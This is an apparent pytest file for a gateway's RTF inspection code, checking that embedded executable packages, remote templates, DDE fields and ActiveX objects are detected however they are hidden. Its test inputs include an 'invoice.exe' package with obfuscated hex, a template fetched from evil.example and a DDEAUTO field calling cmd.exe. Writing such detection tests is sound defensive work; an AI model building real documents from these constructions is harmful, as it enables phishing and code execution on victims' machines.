"""RTF: objects, templates and fields, however they are hidden."""

import struct

import pytest

from gateway.inspection.formats.rtf_compressed import unpacked
from tests.inspection.formats.documents import first, opened, package_object

RTF = "application/rtf"


def ole1(class_name: bytes, native: bytes, kind: int = 2, topic: bytes = b"") -> bytes:
    """Return an OLE 1.0 object (MS-OLEDS 2.2.5)."""
    strings = (class_name + b"\0", topic + b"\0" if topic else b"", b"")
    out = struct.pack("<II", 0x501, kind) + b"".join(struct.pack("<I", len(text)) + text for text in strings)
    return out + (struct.pack("<I", len(native)) + native if kind == 2 else b"")


PACKAGE = ole1(b"Package", package_object("invoice.exe", b"MZ program")).hex()
HALF = len(PACKAGE) // 4 * 2


@pytest.mark.parametrize(
    "digits",
    [
        PACKAGE,
        PACKAGE.upper(),
        "\r\n".join(PACKAGE[i : i + 7] for i in range(0, len(PACKAGE), 7)),
        f"{PACKAGE[:HALF]}{{{PACKAGE[HALF:]}}}",
        f"{PACKAGE[:HALF]}{{\\*\\unknown}}{PACKAGE[HALF:]}",
        f"{PACKAGE[:HALF]}{{\\*\\pict ffff}}{PACKAGE[HALF:]}",
        f"{PACKAGE[:HALF]}\\'41 {PACKAGE[HALF:]}",
        f"{PACKAGE[:HALF]}\\objdata {PACKAGE[HALF:]}",
        f"{PACKAGE[:HALF]}\\bin0 {PACKAGE[HALF:]}",
    ],
)
def test_a_package_is_found_however_its_digits_are_written(monkeypatch: pytest.MonkeyPatch, digits: str) -> None:
    data = f"{{\\rt{{\\object\\objemb\\objupdate{{\\*\\objdata {digits}}}}}}}".encode()
    outer, inner = opened(monkeypatch, data, RTF).parts
    assert (outer.active, inner.names, inner.size) == (("embedded_object",), ("invoice.exe",), 10)


def test_raw_octets_are_part_of_an_object(monkeypatch: pytest.MonkeyPatch) -> None:
    octets = bytes.fromhex(PACKAGE)
    data = b"{\\rtf1{\\object{\\*\\objdata " + octets[:40].hex().encode()
    data += b"\\bin%d " % len(octets[40:]) + octets[40:] + b"}}}"
    assert opened(monkeypatch, data, RTF).parts[1].names == ("invoice.exe",)


def test_an_object_in_a_file_that_is_cut_short_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
    data = f"{{\\rtf1{{\\object{{\\*\\objdata {PACKAGE}".encode()
    assert opened(monkeypatch, data, RTF).parts[1].names == ("invoice.exe",)


@pytest.mark.parametrize(
    ("body", "active", "links"),
    [
        ("{\\*\\template https://evil.example/a.dotm}", ("external_template",), []),
        ("{\\*\\template \\u104 ?\\u116 ?\\u116?\\'70\\'73://evil.example/a.dotm}", ("external_template",), []),
        ("{\\*\\template \\\\\\\\evil.example\\\\share\\\\a.dotm}", ("external_template",), []),
        ("{\\*\\template C:\\\\Users\\\\me\\\\Normal.dotm}", (), []),
        ("{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\cmd.exe}{\\fldrslt x}}", ("dde",), []),
        ("{\\field{\\*\\fldinst {\\b D}{DE}AUTO x}{\\fldrslt x}}", ("dde",), []),
        ('{\\field{\\*\\fldinst HYPERLINK "https://shop.example/a"}{\\fldrslt x}}', (), ["https://shop.example/a"]),
        ('{\\*\\htmltag84 <a href="https://shop.example/b">}', (), ["https://shop.example/b"]),
        ("{\\object\\objocx x}", ("activex",), []),
        ("plain text with \\b bold\\b0 words, DDEAUTO and {\\*\\generator x}", (), []),
    ],
)
def test_what_text_asks_for_is_noted(
    monkeypatch: pytest.MonkeyPatch, body: str, active: tuple[str, ...], links: list[str]
) -> None:
    found = opened(monkeypatch, f"{{\\rtf1 {body}}}".encode(), RTF)
    assert (found.parts[0].active, [link.target for link in found.links]) == (active, links)


def test_a_linked_object_is_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    digits = ole1(b"Word.Document.8", b"", kind=1, topic=b"https://evil.example/a.doc").hex()
    part = first(monkeypatch, f"{{\\rtf1{{\\object{{\\*\\objdata {digits}}}}}}}".encode(), RTF)
    assert part.active == ("embedded_object", "external_relationship")


def test_an_object_that_makes_no_sense_is_damaged(monkeypatch: pytest.MonkeyPatch) -> None:
    part = first(monkeypatch, b"{\\rtf1{\\object{\\*\\objdata 0102zz}}}", RTF)
    assert (part.active, part.problems) == (("embedded_object",), ("damaged",))


@pytest.mark.parametrize(
    "data", [b"{" * 200_000 + b"\\objdata ", b"\\" * 200_000 + b"\\objdata", b"{\\objdata " * 9000]
)
def test_hostile_nesting_ends(monkeypatch: pytest.MonkeyPatch, data: bytes) -> None:
    assert "too_long" not in first(monkeypatch, data, RTF).problems


def test_the_examples_of_compressed_rtf_are_unpacked() -> None:
    # MS-OXRTFCP 3.1.1 and 3.1.2.
    first_example = "2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c090020627705b06c647d0a800fa0"
    second_example = "1a0000001c0000004c5a4675e2d44b51410004205758595a0d6e7d010eb0"
    assert b"".join(unpacked(bytes.fromhex(first_example))).startswith(b"{\\rtf1\\ansi\\ansicpg1252\\pard hello world}")
    assert b"".join(unpacked(bytes.fromhex(second_example))) == b"{\\rtf1 WXYZWXYZWXYZWXYZWXYZ}"


@pytest.mark.parametrize("packed", [b"", b"short", struct.pack("<II4sI", 12, 4, b"XXXX", 0)])
def test_what_is_no_compressed_rtf_is_refused(packed: bytes) -> None:
    with pytest.raises(ValueError, match=r"RTF|short"):
        list(unpacked(packed))
